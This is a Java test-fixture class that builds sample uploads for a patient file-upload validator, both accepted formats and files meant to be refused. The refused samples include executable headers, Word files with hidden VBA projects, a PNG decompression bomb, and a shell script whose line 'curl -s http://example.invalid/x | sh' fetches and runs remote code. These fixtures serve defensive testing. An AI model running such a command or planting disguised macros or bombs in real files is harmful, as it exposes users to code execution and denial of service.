package org.consilium;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.DirectoryEntry;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/**
 * Files a patient might upload, and some they must not, made in memory: documents and images of every accepted type,
 * and programs, scripts, archives and PDFs that must be refused.
 */
public final class FileFixtures {

    private FileFixtures() {
    }

    /** A small but well-formed one-page PDF (with a correct cross-reference table) showing the text. */
    public static byte[] pdf(String text) {
        String stream = "BT /F1 12 Tf 72 720 Td (" + text + ") Tj ET";
        List<String> objects = List.of(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
                        + "/Resources << /Font << /F1 5 0 R >> >> >>",
                "<< /Length " + stream.length() + " >>\nstream\n" + stream + "\nendstream",
                "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
        StringBuilder pdf = new StringBuilder("%PDF-1.4\n");
        List<Integer> offsets = new ArrayList<>();
        for (int i = 0; i < objects.size(); i++) {
            offsets.add(pdf.length());
            pdf.append(i + 1).append(" 0 obj\n").append(objects.get(i)).append("\nendobj\n");
        }
        int xref = pdf.length();
        pdf.append("xref\n0 ").append(objects.size() + 1).append("\n0000000000 65535 f \n");
        for (int offset : offsets) {
            pdf.append("%010d 00000 n \n".formatted(offset));
        }
        pdf.append("trailer\n<< /Size ").append(objects.size() + 1).append(" /Root 1 0 R >>\nstartxref\n")
                .append(xref).append("\n%%EOF\n");
        return pdf.toString().getBytes(StandardCharsets.US_ASCII);
    }

    /** The start of a 64-bit Linux ELF executable. */
    public static byte[] elfExecutable() {
        byte[] elf = new byte[128];
        byte[] header = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0, 1, 0, 0, 0};
        System.arraycopy(header, 0, elf, 0, header.length);
        return elf;
    }

    public static byte[] shellScript() {
        return "#!/bin/sh\ncurl -s http://example.invalid/x | sh\n".getBytes(StandardCharsets.US_ASCII);
    }

    /** A DICOM Part 10 file: the 128-byte preamble, {@code DICM}, and a transfer syntax element. */
    public static byte[] dicom() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[128]);
        out.writeBytes("DICM".getBytes(StandardCharsets.US_ASCII));
        byte[] syntax = "1.2.840.10008.1.2.1\0".getBytes(StandardCharsets.US_ASCII);
        out.writeBytes(new byte[] {0x02, 0x00, 0x10, 0x00, 'U', 'I', (byte) syntax.length, 0});
        out.writeBytes(syntax);
        return out.toByteArray();
    }

    public static byte[] png() {
        return image("png");
    }

    public static byte[] tiff() {
        return image("tiff");
    }

    /**
     * The start of a HEIC photo as phones save them: an ISO media file whose brand is {@code heic} (a file type box,
     * then an empty metadata box); enough to be recognised, as type detection reads only the start.
     */
    public static byte[] heic() {
        java.nio.ByteBuffer b = java.nio.ByteBuffer.allocate(24 + 16);
        b.putInt(24).put("ftypheic".getBytes(StandardCharsets.US_ASCII)).putInt(0)
                .put("mif1heic".getBytes(StandardCharsets.US_ASCII));
        b.putInt(16).put("meta".getBytes(StandardCharsets.US_ASCII)).putInt(0).putInt(0);
        return b.array();
    }

    public static byte[] jpeg() {
        return image("jpeg");
    }

    private static byte[] image(String format) {
        BufferedImage image = new BufferedImage(4, 4, BufferedImage.TYPE_INT_RGB);
        image.setRGB(1, 1, 0xFF0000);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            ImageIO.write(image, format, out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** A ZIP archive of the given entries, in order, deflated. */
    public static byte[] zip(Map<String, byte[]> entries) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            write(zip, entries);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static void write(ZipOutputStream zip, Map<String, byte[]> entries) throws IOException {
        for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
            zip.putNextEntry(new ZipEntry(entry.getKey()));
            zip.write(entry.getValue());
            zip.closeEntry();
        }
    }

    public static byte[] zip(String name, byte[] content) {
        return zip(Map.of(name, content));
    }

    /** A Word document (OOXML): the three parts Word needs, with the given main part content type. */
    public static byte[] docx(String text) {
        return wordPackage("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                text, Map.of());
    }

    /** A macro-enabled Word document: the macro main part type and a VBA project. */
    public static byte[] docm() {
        return wordPackage("application/vnd.ms-word.document.macroEnabled.main+xml", "Macro",
                Map.of("word/vbaProject.bin", new byte[] {1, 2, 3}));
    }

    /** A document that says it is a plain .docx but carries a VBA project all the same. */
    public static byte[] docxWithVbaProject() {
        return wordPackage("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "Hidden macro", Map.of("word/vbaProject.bin", new byte[] {1, 2, 3}));
    }

    private static byte[] wordPackage(String mainType, String text, Map<String, byte[]> extra) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("word/document.xml", utf8("""
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
                <w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>""".formatted(text)));
        parts.putAll(extra);
        return officePackage("word/document.xml", Map.of("/word/document.xml", mainType), parts);
    }

    /** An Excel workbook (OOXML) with one sheet holding one number. */
    public static byte[] xlsx() {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("xl/workbook.xml", utf8("""
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
                 xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
                <sheets><sheet name="Labs" sheetId="1" r:id="rId1"/></sheets></workbook>"""));
        parts.put("xl/_rels/workbook.xml.rels", relationships("worksheets/sheet1.xml",
                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"));
        parts.put("xl/worksheets/sheet1.xml", utf8("""
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
                <sheetData><row r="1"><c r="A1"><v>5.4</v></c></row></sheetData></worksheet>"""));
        Map<String, String> types = new LinkedHashMap<>();
        types.put("/xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml");
        types.put("/xl/worksheets/sheet1.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml");
        return officePackage("xl/workbook.xml", types, parts);
    }

    /** An OOXML package: content types first, then the package relationship to the main part, then the parts. */
    private static byte[] officePackage(String mainPart, Map<String, String> partTypes, Map<String, byte[]> parts) {
        StringBuilder overrides = new StringBuilder();
        partTypes.forEach((part, type) -> overrides.append("<Override PartName=\"").append(part)
                .append("\" ContentType=\"").append(type).append("\"/>\n"));
        Map<String, byte[]> all = new LinkedHashMap<>();
        all.put("[Content_Types].xml", utf8("""
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
                <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
                <Default Extension="xml" ContentType="application/xml"/>
                %s</Types>""".formatted(overrides)));
        all.put("_rels/.rels", relationships(mainPart,
                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"));
        all.putAll(parts);
        return zip(all);
    }

    private static byte[] relationships(String target, String type) {
        return utf8("""
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                <Relationship Id="rId1" Target="%s" Type="%s"/>
                </Relationships>""".formatted(target, type));
    }

    /** An OpenDocument file: the stored {@code mimetype} entry first, as the format requires. */
    public static byte[] openDocument(String mimeType, Map<String, byte[]> more) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            byte[] type = utf8(mimeType);
            ZipEntry first = new ZipEntry("mimetype");
            first.setMethod(ZipEntry.STORED);
            first.setSize(type.length);
            CRC32 crc = new CRC32();
            crc.update(type);
            first.setCrc(crc.getValue());
            zip.putNextEntry(first);
            zip.write(type);
            zip.closeEntry();
            Map<String, byte[]> parts = new LinkedHashMap<>();
            parts.put("META-INF/manifest.xml", utf8("""
                    <?xml version="1.0" encoding="UTF-8"?>
                    <manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">
                    <manifest:file-entry manifest:full-path="/" manifest:media-type="%s"/>
                    </manifest:manifest>""".formatted(mimeType)));
            parts.put("content.xml", utf8("""
                    <?xml version="1.0" encoding="UTF-8"?>
                    <office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>"""));
            parts.putAll(more);
            write(zip, parts);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** A legacy Word document (OLE2): the streams Word's format is recognised by, plus any extra ones. */
    public static byte[] doc(Map<String, byte[]> extraStreams) {
        try (POIFSFileSystem fs = new POIFSFileSystem()) {
            fs.createDocument(new java.io.ByteArrayInputStream(new byte[4096]), "WordDocument");
            fs.createDocument(new java.io.ByteArrayInputStream(new byte[1024]), "1Table");
            for (Map.Entry<String, byte[]> stream : extraStreams.entrySet()) {
                DirectoryEntry directory = fs.getRoot();
                String[] path = stream.getKey().split("/");
                for (int i = 0; i < path.length - 1; i++) {
                    directory = directory.hasEntry(path[i]) ? (DirectoryEntry) directory.getEntry(path[i])
                            : directory.createDirectory(path[i]);
                }
                directory.createDocument(path[path.length - 1], new java.io.ByteArrayInputStream(stream.getValue()));
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A legacy Excel workbook (BIFF8 in OLE2), written by POI, with one sheet of lab values. */
    public static byte[] xls() {
        try (HSSFWorkbook workbook = new HSSFWorkbook()) {
            workbook.createSheet("Labs").createRow(0).createCell(0).setCellValue(5.4);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            workbook.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A PDF made by PDFBox, after the given change to the document: the way to build hostile PDFs. */
    public static byte[] pdf(PdfChange change) {
        try (PDDocument document = new PDDocument()) {
            PDPage page = new PDPage();
            document.addPage(page);
            change.apply(document, page);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Something done to a fresh one-page document before it is saved. */
    @FunctionalInterface
    public interface PdfChange {
        void apply(PDDocument document, PDPage page) throws IOException;
    }

    /** The start of a Windows PE executable: the DOS header pointing at a PE header. */
    public static byte[] windowsExecutable() {
        byte[] exe = new byte[256];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[0x3c] = (byte) 0x80;
        exe[0x80] = 'P';
        exe[0x81] = 'E';
        return exe;
    }

    /** A PNG of the given size, a red square on blue, drawn for real. */
    public static byte[] png(int width, int height) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        java.awt.Graphics2D g = image.createGraphics();
        g.setColor(java.awt.Color.BLUE);
        g.fillRect(0, 0, width, height);
        g.setColor(java.awt.Color.RED);
        g.fillRect(width / 4, height / 4, width / 2, height / 2);
        g.dispose();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            ImageIO.write(image, "png", out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /**
     * A decompression bomb: a small PNG whose header claims {@code width} × {@code height} pixels (its one data chunk
     * holds a few rows of them), with correct checksums, so only the claim gives it away.
     */
    public static byte[] pngClaiming(int width, int height) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            out.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
            java.nio.ByteBuffer header = java.nio.ByteBuffer.allocate(13).putInt(width).putInt(height)
                    .put((byte) 8).put((byte) 0).put((byte) 0).put((byte) 0).put((byte) 0);
            chunk(out, "IHDR", header.array());
            java.util.zip.Deflater deflater = new java.util.zip.Deflater();
            deflater.setInput(new byte[(width + 1) * 4]);
            deflater.finish();
            byte[] data = new byte[65536];
            int length = deflater.deflate(data);
            chunk(out, "IDAT", java.util.Arrays.copyOf(data, length));
            chunk(out, "IEND", new byte[0]);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) throws IOException {
        byte[] name = type.getBytes(StandardCharsets.US_ASCII);
        out.write(java.nio.ByteBuffer.allocate(4).putInt(data.length).array());
        out.write(name);
        out.write(data);
        CRC32 crc = new CRC32();
        crc.update(name);
        crc.update(data);
        out.write(java.nio.ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    /** An OpenDocument text whose one paragraph says the text. */
    public static byte[] odt(String text) {
        return openDocument("application/vnd.oasis.opendocument.text", Map.of("content.xml", utf8("""
                <?xml version="1.0" encoding="UTF-8"?>
                <office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
                    xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">
                <office:body><office:text><text:p>%s</text:p></office:text></office:body>
                </office:document-content>""".formatted(text))));
    }

    /** An RTF document saying the text. */
    public static byte[] rtf(String text) {
        return utf8("{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} \\f0 " + text + " \\par }");
    }

    public static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
